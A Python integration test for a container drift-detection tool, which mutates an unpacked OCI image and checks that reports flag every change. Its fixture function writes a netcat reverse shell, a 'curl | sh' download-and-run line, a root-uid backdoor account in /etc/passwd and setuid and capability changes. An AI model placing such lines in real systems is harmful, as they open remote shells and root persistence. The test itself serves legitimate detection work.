#!/usr/bin/env python3
"""The drift report end to end, for every target form.

An image made by umoci (fixtures/oci-umoci) is unpacked with `umoci
unpack`; an overlayfs is mounted on it and a scripted set of changes an
attacker or a runtime `apt-get` would make is applied through the mount.
The kernel then gives three targets for the same container: the merged
directory (rootfs), the upper directory (--upper) and a `tar` export of the
merged view. Each report must list exactly the changes in
tests/cli/drift.expected. Needs root (umoci, mount, chown, mknod); skipped
(77) otherwise. Without overlayfs (e.g. in some sandboxes) the changes are
made on a plain copy and the --upper form is skipped.
"""
import json
import os
import shutil
import struct
import subprocess
import sys
import tempfile

from ddtest import SKIP, SOURCE_ROOT, Checker, fixture, run

EXPECTED = os.path.join(SOURCE_ROOT, "tests", "cli", "drift.expected")


def caps_xattr(caps, effective=True):
    """A VFS_CAP_REVISION_2 security.capability value."""
    bits = 0
    for c in caps:
        bits |= 1 << c
    magic = 0x02000000 | (1 if effective else 0)
    return struct.pack("<IIIII", magic, bits & 0xffffffff, 0, bits >> 32, 0)


def apply_changes(root):
    """The scripted drift; each line is one case of the expected file."""
    p = lambda rel: os.path.join(root, rel)
    os.makedirs(p("tmp/.cache"))
    shutil.copy("/bin/true", p("tmp/.cache/miner"))
    os.chmod(p("tmp/.cache/miner"), 0o755)                        # added ELF binary, hidden dir
    with open(p("usr/local/bin/backdoor.sh"), "w") as f:          # added script
        f.write("#!/bin/sh\nexec nc -e /bin/sh 203.0.113.9 4444\n")
    os.chmod(p("usr/local/bin/backdoor.sh"), 0o755)
    with open(p("etc/passwd"), "a") as f:                         # edited /etc/passwd
        f.write("toor:x:0:0::/root:/bin/sh\n")
    st = os.stat(p("etc/motd"))                                   # same size, same mtime
    with open(p("etc/motd"), "r+b") as f:
        data = f.read()
        f.seek(0)
        f.write(bytes(reversed(data[:-1])) + data[-1:])
    os.utime(p("etc/motd"), ns=(st.st_atime_ns, st.st_mtime_ns))
    os.chmod(p("etc/app.conf"), 0o600)                           # chmod only
    os.chown(p("etc/empty.conf"), 1000, 1000)                    # chown only
    os.chmod(p("usr/bin/tool"), 0o4700)                          # setuid added
    os.setxattr(p("usr/share/zoneinfo/UTC"), "security.capability",
                caps_xattr([21]))                                # capability added (cap_sys_admin)
    os.remove(p("etc/localtime"))                                # symlink retargeted
    os.symlink("../usr/share/zoneinfo/UTC", p("etc/localtime"))
    os.remove(p("etc/group"))                                    # file -> symlink
    os.symlink("/tmp/group", p("etc/group"))
    os.remove(p("usr/local/bin/tool"))                           # symlink -> file
    with open(p("usr/local/bin/tool"), "w") as f:
        f.write("#!/bin/sh\n/usr/bin/tool \"$@\" & curl -s http://203.0.113.9/x | sh\n")
    os.chmod(p("usr/local/bin/tool"), 0o755)
    os.remove(p("var/lib/state/db"))                             # file deleted
    shutil.rmtree(p("srv/data"))                                 # directory deleted
    os.mkfifo(p("tmp/.pipe"))                                    # FIFO added
    os.link(p("usr/bin/su"), p("tmp/su-copy"))                   # hard link added (to a setuid file)
    with open(p("tmp/new\nline"), "w") as f:                     # a newline in a name
        f.write("x\n")
    with open(os.path.join(os.fsencode(root), b"tmp/caf\xe9"), "w") as f:  # invalid UTF-8
        f.write("y\n")


def changes_of(out):
    """The report's changes as comparable lines: KIND PATH CHANGED."""
    rows = []
    for c in json.loads(out)["changes"]:
        if "ignored" in c:
            continue
        rows.append("\t".join([c["kind"], json.dumps(c["path"]), ",".join(c["changed"]),
                               "exec" if c["executable"] else "-"]))
    return rows


def findings_of(out):
    return sorted("\t".join([f["rule"], json.dumps(f["paths"][0])]) for f in json.loads(out)["findings"])


def main():
    if os.geteuid() != 0 or not shutil.which("umoci"):
        print("needs root and umoci: skipped")
        return SKIP
    want = [l.rstrip("\n") for l in open(EXPECTED, encoding="utf-8") if l.strip() and not l.startswith("#")]
    want_changes = [l[2:] for l in want if l.startswith("C ")]
    want_findings = sorted(l[2:] for l in want if l.startswith("F "))
    c = Checker()
    with tempfile.TemporaryDirectory() as d:
        os.environ["XDG_CACHE_HOME"] = os.path.join(d, "cache")
        layout = os.path.join(d, "image")
        shutil.copytree(fixture("oci-umoci"), layout)
        subprocess.run(["umoci", "unpack", "--image", layout + ":latest", os.path.join(d, "bundle")],
                       check=True, capture_output=True)
        lower = os.path.join(d, "bundle", "rootfs")
        # The bundle given for its rootfs: a note says which was meant.
        for tgt, noted in ((os.path.join(d, "bundle"), True), (lower, False)):
            rc, out, err = run("report", "--ref", "latest", layout, tgt)
            c.check(("looks like a runtime bundle" in err and lower in err) == noted,
                    f"report {tgt}: exit {rc}, bundle note {'missing' if noted else 'given'}: {err!r}")
        upper, work, merged = (os.path.join(d, n) for n in ("upper", "work", "merged"))
        for x in (upper, work, merged):
            os.mkdir(x)
        mounted = subprocess.run(["mount", "-t", "overlay", "overlay", "-o",
                                  f"lowerdir={lower},upperdir={upper},workdir={work}", merged],
                                 capture_output=True).returncode == 0
        if not mounted:
            print("overlayfs not available: changing a copy, --upper not tested")
            os.rmdir(merged)
            shutil.copytree(lower, merged, symlinks=True)
        try:
            apply_changes(merged)
            export = os.path.join(d, "export.tar")
            subprocess.run(["tar", "--xattrs", "--xattrs-include=*", "--numeric-owner", "-C", merged,
                            "-cf", export, "."], check=True)
            forms = [("rootfs", [merged]), ("tar", [export])]
            if mounted:
                forms.append(("upper", ["--upper", upper]))
            for form, args in forms:
                rc, out, err = run("report", "--format", "json", "--ref", "latest", layout, *args)
                if not c.check(rc == 1, f"{form}: exit {rc}, want 1 (drift): {err}"):
                    continue
                got = changes_of(out)
                for line in sorted(set(want_changes) | set(got)):
                    c.check(line in got and line in want_changes,
                            f"{form}: {'missing' if line not in got else 'unexpected'}: {line}")
                gotf = findings_of(out)
                c.check(gotf == want_findings, f"{form}: findings {gotf}")
                # The same run as text and SARIF must succeed too.
                for fmt in ("text", "sarif", "markdown"):
                    rc, out, err = run("report", "--format", fmt, "--ref", "latest", layout, *args)
                    c.check(rc == 1 and out, f"{form}: --format {fmt}: exit {rc} {err}")
                print(f"{form}: {len(got)} changes compared")
            # A cached image is read before the walk, which then keeps the heads of
            # only the executables that differ: the report must not change.
            reports = []
            for extra in ([], ["--no-cache"]):
                rc, out, err = run("report", "--format", "json", "--ref", "latest", *extra,
                                   layout, merged)
                doc = json.loads(out) if rc == 1 else {}
                doc.pop("warnings", None)
                reports.append(doc)
            c.check(reports[0] and reports[0] == reports[1],
                    "rootfs: the cached image's report is the one the layers give")
            c.check(any("ELF" in (f.get("detail") or "") for f in reports[0].get("findings", [])),
                    "rootfs: a new executable is described from its head")
            if mounted:
                # The upper dir read only its part of the cached image (filled by
                # the runs above): the report must be the one the whole tree gives.
                reports = []
                for extra in ([], ["--no-cache"]):
                    rc, out, err = run("report", "--format", "json", "--ref", "latest", *extra,
                                       layout, "--upper", upper)
                    doc = json.loads(out) if rc == 1 else {}
                    doc.pop("warnings", None)
                    reports.append(doc)
                c.check(reports[0] and reports[0] == reports[1],
                        "upper: the cached image's part gives the whole tree's report")
                # A saved manifest gives its part line by line: the same changes and findings.
                saved = os.path.join(d, "image.manifest")
                rc, out, err = run("manifest", "--ref", "latest", "-o", saved, layout)
                c.check(rc == 0, f"manifest -o: exit {rc} {err}")
                rc, out, err = run("report", "--format", "json", saved, "--upper", upper)
                doc = json.loads(out) if rc == 1 else {}
                c.check(doc and all(doc.get(k) == reports[1].get(k) for k in ("changes", "findings", "summary")),
                        "upper: the saved manifest's part gives the whole tree's report")
        finally:
            if mounted:
                subprocess.run(["umount", merged], check=False)
    c.done()


if __name__ == "__main__":
    sys.exit(main())
